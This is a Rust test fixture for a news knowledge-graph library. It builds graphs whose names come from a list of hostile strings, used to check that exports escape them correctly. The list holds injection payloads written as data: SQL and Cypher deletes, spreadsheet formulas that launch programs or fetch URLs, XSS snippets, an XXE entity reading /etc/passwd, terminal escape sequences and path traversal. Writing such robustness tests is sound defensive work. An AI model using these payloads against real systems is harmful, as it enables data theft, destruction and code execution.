//! A graph whose every string tries to break out of the format that it is written in, and a plain one.

use std::collections::{BTreeMap, BTreeSet};

use newsgraph::coordinates::Coordinates;
use newsgraph::date::Date;
use newsgraph::events::{Codes, Level, Marks, Modality, Occasion, Polarity};
use newsgraph::graph::{
    ActorRef, Claim, DocumentNode, EdgeKind, EntityNode, EventRecord, Evidence, KnowledgeGraph, MeetingRecord, Node,
    Provenance, StatementNode, document_id,
};
use newsgraph::ontology::{Predicate, Relation};
use newsgraph::resolve::EntityType;

/// Names that are trouble in CSV, in DOT, in JSON, in Cypher, in XML, or in a spreadsheet.
pub const HOSTILE: &[&str] = &[
    "plain",
    "O'Brien \"the Quote\" O’Brien",
    "back\\slash",
    "ends in a backslash\\",
    "comma, and ends in a backslash\\",
    "quote after backslash \\\" here, twice \\\\\" there",
    "semi;colon;s",
    "<b>angle</b> & ampersand &amp; &lt;entity&gt; &#0;",
    "line\nbreak\r\nand\rreturn",
    "tab\tand \u{1}\u{7}\u{1b}[31m control",
    "=HYPERLINK(\"http://a.example\",\"x\")",
    "+1-2",
    "-2+3",
    "@SUM(A1)",
    "emoji 🕊️ 👩‍🚒 and flag 🇺🇦",
    "習近平 и Владимир Путин",
    "right-to-left \u{202e}override שלום",
    "zero\u{200b}width\u{feff}",
    "\\N \\G \\n \\l {record|port} ->",
    "]]> --> */ ?> %s ${x} #{y} `z`",
    "'; DROP TABLE nodes; --",
    "{\"@id\": \"https://a.example/\"}",
    "</script><script>alert(1)</script>",
    "&#x41; &eacute; &nbsp; &lt;/title&gt; %3C",
    "<p0> a|b|{c|d}",
    "nul \u{0} and noncharacter \u{fffe}",
    "\u{2028}separator\u{2029}",
    " leading and trailing space ",
    "\"",
    "\\",
    ",",
    "null",
    "true",
    "007",
    // Formulas: programs to start, pages to fetch, signs behind white space and in full width.
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://a.example/?\", A1), \"//a\")",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    // What tables of other programs take for nothing or for another type.
    "NULL",
    "NaN",
    "N/A",
    "#REF!",
    "1e5",
    "2023-03-21",
    // Labels of DOT.
    "<<table port=\"p\"><tr><td href=\"javascript:alert(1)\">x</td></tr></table>>",
    "x\" shape=none URL=\"javascript:alert(1)\" label=<<b>y</b>>",
    "}; subgraph cluster_x { a -> b }",
    "{ a | <port> b \\| c } \\H \\E \\T",
    // XML, HTML and scripts.
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "<![CDATA[ x ]]> <?php echo 1 ?>",
    "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "<svg/onload=alert(1)>",
    "<!--<script>",
    "javascript:alert(1)",
    // Keywords, nodes and contexts of JSON-LD.
    "@id",
    "@type",
    "@context",
    "_:b0",
    "schema:name",
    "https://a.example/#x",
    "{\"@context\": \"https://a.example/context.jsonld\", \"@graph\": []}",
    // Cypher and SPARQL.
    "x'}) DETACH DELETE n //",
    "`) MATCH (n) DETACH DELETE n //",
    "$id {x: 1}",
    "\" . } ; DROP ALL ; #",
    "<http://a.example/> } SERVICE <http://a.example/sparql> { ?s ?p ?o",
    // What steers a terminal: title, link, clearing, a question, the one-byte form of an escape.
    "\u{1b}]0;owned\u{7}title",
    "\u{1b}]8;;http://a.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{1b}[2J\u{1b}[6n cleared",
    "\u{9b}31m red",
    // What turns the order of reading.
    "\u{2066}isolate\u{2069} \u{200f}mark \u{61c}letter",
    "gnp.exe\u{202e}cod",
    // Paths.
    "../../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\System32",
    "..",
    "CON",
    LONG,
];

macro_rules! ten {
    ($text:expr) => {
        concat!($text, $text, $text, $text, $text, $text, $text, $text, $text, $text)
    };
}

/// A name of five thousand characters.
const LONG: &str = concat!(ten!(ten!(ten!("Long "))), "name");

/// A document of that id, with a hostile title and address.
pub fn document(id: &str) -> Node {
    Node::Document(DocumentNode {
        id: document_id(id),
        document: id.to_owned(),
        title: Some(format!("Title of {id}")),
        url: Some(format!("https://news.example/read?id={id}&x=\"<y>\" \\{{z}}")),
        copies: BTreeSet::new(),
        date: "2023-03-21".parse().ok(),
        text_sha256: None,
        sketch: None,
        producer: Provenance::of_this_build().to_string().into(),
    })
}

/// An entity with hostile aliases.
pub fn entity(id: &str, kind: EntityType, name: &str, document: &str) -> Node {
    let country = kind == EntityType::Country;
    Node::Entity(EntityNode {
        id: id.to_owned(),
        kind,
        types: BTreeSet::from([kind, EntityType::Place]),
        name: name.to_owned(),
        aliases: BTreeSet::from([name.to_owned(), format!("the {name}")]),
        wikidata: id.starts_with('Q').then(|| id.to_owned()),
        title: Some(format!("{name} (title)")),
        iso3: country.then(|| "XXA".to_owned()),
        country: (!country).then(|| "XXA".to_owned()),
        coordinates: Coordinates::from_degrees("-1.2921", "36.8219"),
        claimed_by: BTreeSet::from(["XXA".to_owned(), format!("state of {name}")]),
        mentions: BTreeMap::from([(document.into(), 2)]),
        confidence: 0.875.into(),
        reason: format!("for {name}"),
    })
}

/// Evidence at a place that `seed` chooses.
pub fn evidence(document: &str, sentence: &str, seed: usize) -> Evidence {
    Evidence {
        document: document.into(),
        begin: seed * 100,
        end: seed * 100 + sentence.len(),
        rule: "consult/met-with".into(),
        confidence: (0.8 + 0.04 * (seed % 5) as f32).into(),
        place: None,
        sentence: sentence.into(),
        sentence_begin: seed * 100,
        marks: Marks {
            trigger: Some((seed * 100 + 1, seed * 100 + 2)),
            source: (!seed.is_multiple_of(3)).then_some((seed * 100, seed * 100 + 1)),
            target: (!seed.is_multiple_of(2)).then_some((seed * 100 + 2, seed * 100 + 3)),
            decided: if seed % 4 == 1 { sentence.to_owned() } else { String::new() },
            codes: Codes { cameo: "040".to_owned(), ..Codes::default() },
        },
    }
}

/// Every hostile name as a person, in events, offices, statements, meetings and documents; every polarity and modality.
pub fn graph() -> KnowledgeGraph {
    let mut graph = KnowledgeGraph::new();
    (0..HOSTILE.len()).for_each(|place| graph.merge(part(place)));
    graph
}

/// The graph of the document of one name.
pub fn part(place: usize) -> KnowledgeGraph {
    let mut graph = KnowledgeGraph::new();
    let (home, name, id) = ("Q1000001", HOSTILE[place], format!("Q{}", 2_000_001 + place));
    // Ids of documents are one line.
    let text = format!("doc {place}: {name}").replace(['\r', '\n'], " ");
    graph.add_node(document(&text));
    graph.add_node(entity(home, EntityType::Country, "Republic of \"A;B\\", &text));
    graph.add_node(entity("local-place", EntityType::Place, "Town = <&>", &text));
    graph.add_node(entity("local-alone", EntityType::Organization, "Nobody's \"Friend\"", &text));
    graph.add_node(entity(&id, EntityType::Person, name, &text));
    let sentence = format!("{name} said: “{name}”.");
    let there = Evidence { place: Some("local-place".into()), ..evidence(&text, &sentence, place) };
    graph.add_event(event(&id, home, place, there));
    office(&mut graph, &id, home, name, evidence(&text, &sentence, place + 1));
    meeting(&mut graph, &id, home, place, evidence(&text, &sentence, place + 2));
    statement(&mut graph, &id, home, name, evidence(&text, &sentence, place + 3));
    graph
}

/// An event mention whose predicate, truth and date `seed` chooses.
pub fn event(source: &str, target: &str, seed: usize, evidence: Evidence) -> EventRecord {
    const MODALITIES: [Modality; 4] =
        [Modality::Asserted, Modality::Planned, Modality::Hypothetical, Modality::ReportedClaim];
    let modality = MODALITIES[seed / 3 % 4];
    let group = ActorRef::Group {
        name: format!("forces of {source} \"\\;"),
        country: Some("XXA".into()),
        state: Some(target.to_owned()),
    };
    EventRecord {
        evidence: evidence.into(),
        predicate: Predicate::ALL[seed % Predicate::ALL.len()],
        source: Some(ActorRef::Entity(source.to_owned())),
        target: if seed % 5 == 4 { Some(group) } else { Some(ActorRef::Entity(target.to_owned())) },
        polarity: if seed % 7 == 6 { Polarity::Negative } else { Polarity::Positive },
        modality,
        attribution: (modality == Modality::ReportedClaim).then(|| source.to_owned()),
        date: date(seed),
    }
}

fn date(seed: usize) -> Option<Date> {
    let dates = ["2023-03-20", "2023-03", "2023", "2023-03-20/2023-03-21", ""];
    dates[seed % dates.len()].parse().ok()
}

fn office(graph: &mut KnowledgeGraph, person: &str, body: &str, title: &str, evidence: Evidence) {
    let claim = Claim::asserted(person, EdgeKind::Relation(Relation::HoldsOffice), body);
    assert!(graph.add_edge(Claim { role: Some(title.to_owned()), ..claim }, [evidence]));
}

fn meeting(graph: &mut KnowledgeGraph, person: &str, host: &str, seed: usize, evidence: Evidence) {
    graph.add_meeting(MeetingRecord {
        participants: BTreeSet::from([person.to_owned(), host.to_owned()]),
        place: Some("local-place".into()),
        date: date(seed),
        negated: seed % 11 == 10,
        modality: if seed % 4 == 3 { Modality::Planned } else { Modality::Asserted },
        attribution: None,
        occasion: Occasion {
            level: Some(Level::Summit),
            duration: Some("PT1H".into()),
            agenda: BTreeSet::from([person.to_owned()]),
            cancelled: seed % 11 == 10,
        },
        evidence: vec![evidence],
    });
}

fn statement(graph: &mut KnowledgeGraph, speaker: &str, addressee: &str, text: &str, mut evidence: Evidence) {
    // What is said is no event and has no code.
    evidence.marks.codes = Codes::default();
    graph.add_statement(StatementNode {
        id: format!("statement-{speaker}"),
        speakers: BTreeSet::from([speaker.to_owned()]),
        addressees: BTreeSet::from([addressee.to_owned()]),
        voices: BTreeSet::from([text.to_owned()]),
        audience: BTreeSet::from([text.to_owned()]),
        about: BTreeSet::from([addressee.to_owned()]),
        reporters: BTreeSet::from([speaker.to_owned()]),
        text: text.to_owned(),
        direct: true,
        cue: Some("say".into()),
        date: date(0),
        evidence,
    });
}
